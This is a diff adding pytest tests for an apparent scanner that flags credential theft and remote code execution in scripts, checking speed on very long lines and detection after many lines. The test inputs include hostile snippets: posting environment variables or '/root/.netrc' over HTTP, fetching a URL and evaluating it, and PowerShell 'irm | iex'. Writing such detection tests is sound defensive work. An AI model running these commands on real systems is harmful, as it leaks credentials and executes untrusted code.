@@ -100,3 +100,26 @@ def test_the_cost_is_linear() -> None:
     other_leaks(line * 4_000)
     other_runs("((((" * 20_000)
     assert process_time() - started < 6
+
+
+@pytest.mark.parametrize("unit", ["open", "for", "foreach", "| iex", ".json(", "x = "])
+def test_a_long_line_costs_no_more_than_its_length(unit: str) -> None:
+    spaces = unit + " " * 40_000
+    many = f"{unit} " * (80_000 // len(unit))
+    started = process_time()
+    for line in (spaces, many):
+        other_leaks(f"Net::HTTP.post ENV.to_h; {line}\n")
+        other_runs(f'x = URI.open("{URL}").read; eval(y); {line}\n')
+    assert process_time() - started < 4  # seconds; a square of the length takes minutes
+
+
+@pytest.mark.parametrize("line", ["\n", "# note\n", "x = 1\n"])
+def test_a_theft_after_very_many_lines_is_found(line: str) -> None:
+    theft = 'x = File.read("/root/.netrc")\nNet::HTTP.post(U, x)\n'
+    assert other_leaks(theft)
+    assert other_leaks(line * 7_000 + theft)
+
+
+def test_only_what_is_downloaded_before_the_pipe_is_run_by_it() -> None:
+    assert other_runs(f"1 | iex; irm {URL}") == ()
+    assert other_runs(f"1 | iex; irm {URL} | iex")
